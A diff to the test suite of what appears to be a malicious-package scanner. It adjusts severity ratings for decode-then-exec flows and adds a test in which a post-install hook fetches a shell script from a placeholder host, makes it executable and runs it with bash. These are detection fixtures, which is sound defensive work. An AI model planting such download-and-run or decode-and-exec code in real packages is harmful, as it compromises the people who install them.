@@ -172,7 +172,21 @@ def test_decoded_payload_is_scanned_as_code():
 def test_flow_from_decoder_through_variables():
     src = ("import base64\n\ndef go(blob):\n    data = base64.b64decode(blob)\n"
            "    code = data.decode()\n    exec(code)\n")
-    assert caps("pkg/m.py", src)["exec.decode_then_exec"] == "critical"
+    # data that arrives at run time (a parameter, a pipe): found, weighed as a capability
+    assert caps("pkg/m.py", src)["exec.decode_then_exec"] == "medium"
+    # the same flow on import, or from a constant in the code, is a payload
+    assert caps("pkg/m.py", src + "go(KEY)\n")["exec.decode_then_exec"] == "critical"
+    const = src.replace("def go(blob):", "BLOB = 'cHJpbnQoMSk='\ndef go():").replace("b64decode(blob)", "b64decode(BLOB)")
+    assert caps("pkg/m.py", const)["exec.decode_then_exec"] == "critical"
+
+
+def test_download_chmod_run_flow():
+    src = ("import os, subprocess, urllib.request\n\ndef install():\n"
+           "    p = os.path.join(os.path.expanduser('~'), 'x.sh')\n"
+           "    urllib.request.urlretrieve('https://example.invalid/x.sh', p)\n"
+           "    os.chmod(p, 0o755)\n    subprocess.run(['/bin/bash', p])\n")
+    found = caps("pkg/post_install.py", src)
+    assert found["net.download_to_disk"] == "high"
 
 
 def test_unparsable_python_falls_back_to_patterns_and_says_so():
